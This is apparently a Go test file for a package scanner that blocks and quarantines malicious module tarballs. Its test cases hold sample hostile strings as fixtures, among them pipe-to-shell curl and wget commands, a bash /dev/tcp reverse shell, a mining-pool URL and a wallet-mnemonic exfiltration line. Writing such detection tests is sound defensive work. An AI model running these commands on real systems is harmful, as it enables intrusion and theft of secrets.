@@ -0,0 +1,270 @@
+package scan
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"encoding/json"
+	"errors"
+	"io"
+	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
+	"testing"
+
+	"github.com/cosmos/atlas/module"
+)
+
+// entry defines a file or link of a test tarball.
+type entry struct {
+	name     string
+	typeflag byte
+	linkname string
+	body     string
+}
+
+// tarball returns an Artifact of a gzipped tarball of the given entries.
+func tarball(t *testing.T, entries ...entry) Artifact {
+	t.Helper()
+
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+
+	for _, e := range entries {
+		hdr := &tar.Header{Name: e.name, Typeflag: e.typeflag, Linkname: e.linkname, Mode: 0644, Size: int64(len(e.body))}
+		if e.typeflag == 0 {
+			hdr.Typeflag = tar.TypeReg
+		}
+
+		if hdr.Typeflag != tar.TypeReg {
+			hdr.Size = 0
+		}
+
+		if err := tw.WriteHeader(hdr); err != nil {
+			t.Fatal(err)
+		}
+
+		if hdr.Size > 0 {
+			if _, err := tw.Write([]byte(e.body)); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := gz.Close(); err != nil {
+		t.Fatal(err)
+	}
+
+	bz := buf.Bytes()
+	return Artifact{
+		Module:   "liquidity",
+		Version:  "v1.2.0",
+		Checksum: "8e2f2c0a",
+		Size:     int64(len(bz)),
+		Open: func(context.Context) (io.ReadCloser, error) {
+			return ioutil.NopCloser(bytes.NewReader(bz)), nil
+		},
+	}
+}
+
+// rules returns the rules of the findings by path.
+func rules(findings []Finding) map[string]string {
+	m := map[string]string{}
+	for _, f := range findings {
+		m[f.Path] = f.Rule
+	}
+
+	return m
+}
+
+func TestContentScanner(t *testing.T) {
+	s := &ContentScanner{MaxFileSize: 64, MaxFiles: 3, Patterns: DefaultPatterns()}
+
+	testCases := []struct {
+		name     string
+		entry    entry
+		rule     string
+		severity string
+	}{
+		{"clean", entry{name: "x/liquidity/keeper.go", body: "package keeper\n"}, "", ""},
+		{"pipe to shell", entry{name: "scripts/install.sh", body: "curl -fsSL https://example.com/x | bash\n"}, "pipe_to_shell", SeverityBlock},
+		{"mining pool", entry{name: "config.toml", body: `pool = "stratum+tcp://pool.example.com:3333"`}, "mining_pool", SeverityBlock},
+		{"reverse shell", entry{name: "hook.sh", body: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"}, "reverse_shell", SeverityBlock},
+		{"mnemonic exfiltration", entry{name: "util.go", body: `post(mnemonic, "https://collector.example.com")`}, "mnemonic_exfiltration", SeverityBlock},
+		{"oversized", entry{name: "blob.bin", body: string(make([]byte, 65))}, "oversized_file", SeverityBlock},
+		{"absolute path", entry{name: "/etc/passwd", body: "root"}, "unsafe_path", SeverityBlock},
+		{"parent path", entry{name: "../escape.go", body: "package escape\n"}, "unsafe_path", SeverityBlock},
+		{"nested parent path", entry{name: "x/../../escape.go", body: "package escape\n"}, "unsafe_path", SeverityBlock},
+		{"dotted name", entry{name: "x/..keep", body: "keep"}, "", ""},
+		{"relative symlink", entry{name: "x/link", typeflag: tar.TypeSymlink, linkname: "keeper.go"}, "link", SeverityWarn},
+		{"escaping symlink", entry{name: "x/link", typeflag: tar.TypeSymlink, linkname: "../../etc/passwd"}, "unsafe_link", SeverityBlock},
+		{"absolute symlink", entry{name: "x/link", typeflag: tar.TypeSymlink, linkname: "/etc/passwd"}, "unsafe_link", SeverityBlock},
+		{"hard link", entry{name: "x/y/link", typeflag: tar.TypeLink, linkname: "x/keeper.go"}, "link", SeverityWarn},
+		{"escaping hard link", entry{name: "x/link", typeflag: tar.TypeLink, linkname: "../etc/passwd"}, "unsafe_link", SeverityBlock},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			findings, err := s.Scan(context.Background(), tarball(t, tc.entry))
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			if tc.rule == "" {
+				if len(findings) != 0 {
+					t.Errorf("expected no findings, got %+v", findings)
+				}
+
+				return
+			}
+
+			if len(findings) != 1 || findings[0].Rule != tc.rule || findings[0].Severity != tc.severity {
+				t.Errorf("expected a %s %s finding, got %+v", tc.severity, tc.rule, findings)
+			}
+		})
+	}
+}
+
+func TestContentScannerTooManyFiles(t *testing.T) {
+	s := &ContentScanner{MaxFiles: 2}
+
+	findings, err := s.Scan(context.Background(), tarball(t,
+		entry{name: "a.go", body: "package a"},
+		entry{name: "b.go", body: "package b"},
+		entry{name: "c.go", body: "package c"},
+		entry{name: "d.go", body: "package d"},
+	))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(findings) != 1 || findings[0].Rule != "too_many_files" {
+		t.Errorf("expected a single too_many_files finding, got %+v", findings)
+	}
+}
+
+func TestContentScannerInvalidArtifact(t *testing.T) {
+	a := Artifact{Open: func(context.Context) (io.ReadCloser, error) {
+		return ioutil.NopCloser(bytes.NewReader([]byte("not gzip"))), nil
+	}}
+
+	if _, err := (&ContentScanner{}).Scan(context.Background(), a); err == nil {
+		t.Error("expected an invalid gzip stream to be rejected")
+	}
+}
+
+// failingScanner defines a Scanner that fails to run.
+type failingScanner struct{}
+
+func (failingScanner) Name() string { return "failing" }
+
+func (failingScanner) Scan(context.Context, Artifact) ([]Finding, error) {
+	return nil, errors.New("scanner unavailable")
+}
+
+func TestRun(t *testing.T) {
+	a := tarball(t,
+		entry{name: "install.sh", body: "wget -qO- https://example.com/x | sh\n"},
+		entry{name: "x/link", typeflag: tar.TypeSymlink, linkname: "install.sh"},
+	)
+
+	res := Run(context.Background(), []Scanner{&ContentScanner{Patterns: DefaultPatterns()}, failingScanner{}}, a)
+
+	if len(res.Findings) != 3 {
+		t.Fatalf("expected 3 findings, got %+v", res.Findings)
+	}
+
+	for _, f := range res.Findings[:2] {
+		if f.Scanner != "content" {
+			t.Errorf("expected findings to be attributed to their scanner, got %+v", f)
+		}
+	}
+
+	if f := res.Findings[2]; f.Scanner != "failing" || f.Rule != "scan_failed" || f.Severity != SeverityBlock {
+		t.Errorf("expected a failed scan to block, got %+v", f)
+	}
+
+	if !res.Blocked() {
+		t.Error("expected the result to be blocked")
+	}
+
+	want := "content/pipe_to_shell: downloads and executes a remote script (install.sh); failing/scan_failed: scanner unavailable"
+	if got := res.Reason(); got != want {
+		t.Errorf("expected reason %q, got %q", want, got)
+	}
+}
+
+func TestApply(t *testing.T) {
+	mv := module.ModuleVersion{Version: "v1.2.0", Status: module.VersionStatusPublished}
+
+	if err := Apply(&mv, Result{Findings: []Finding{{Scanner: "content", Rule: "link", Severity: SeverityWarn}}}); err != nil {
+		t.Fatal(err)
+	}
+
+	if mv.Quarantined() {
+		t.Fatal("expected warnings not to quarantine the version")
+	}
+
+	blocked := Result{Findings: []Finding{{Scanner: "content", Rule: "mining_pool", Severity: SeverityBlock, Message: "references a cryptocurrency mining pool"}}}
+	if err := Apply(&mv, blocked); err != nil {
+		t.Fatal(err)
+	}
+
+	if !mv.Quarantined() || mv.QuarantineReason != blocked.Reason() || mv.QuarantinedFrom != module.VersionStatusPublished {
+		t.Errorf("expected the version to be quarantined, got %+v", mv)
+	}
+}
+
+func TestWebhookScanner(t *testing.T) {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("X-Atlas-Module") != "liquidity" || r.Header.Get("X-Atlas-Version") != "v1.2.0" || r.Header.Get("X-Atlas-Checksum") != "8e2f2c0a" {
+			w.WriteHeader(http.StatusBadRequest)
+			return
+		}
+
+		if _, err := gzip.NewReader(r.Body); err != nil {
+			w.WriteHeader(http.StatusUnsupportedMediaType)
+			return
+		}
+
+		json.NewEncoder(w).Encode(Result{Findings: []Finding{ // nolint: errcheck
+			{Rule: "typosquat", Severity: SeverityWarn, Message: "name resembles x/liquidty"},
+			{Rule: "malware", Severity: "critical", Path: "install.sh", Message: "known dropper"},
+		}})
+	}))
+	defer srv.Close()
+
+	s := &WebhookScanner{name: "av", url: srv.URL, client: srv.Client()}
+	findings, err := s.Scan(context.Background(), tarball(t, entry{name: "install.sh", body: "#!/bin/sh\n"}))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(findings) != 2 || findings[0].Severity != SeverityWarn || findings[1].Severity != SeverityBlock {
+		t.Errorf("expected unknown severities to block, got %+v", findings)
+	}
+
+	if got := rules(findings)["install.sh"]; got != "malware" {
+		t.Errorf("expected the finding path to be kept, got %+v", findings)
+	}
+
+	failing := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.Error(w, "overloaded", http.StatusServiceUnavailable)
+	}))
+	defer failing.Close()
+
+	s = &WebhookScanner{url: failing.URL, client: failing.Client()}
+	if _, err := s.Scan(context.Background(), tarball(t)); err == nil {
+		t.Error("expected a failing webhook to return an error")
+	}
+
+	if s.Name() != "webhook" {
+		t.Errorf("expected the default webhook name, got %s", s.Name())
+	}
+}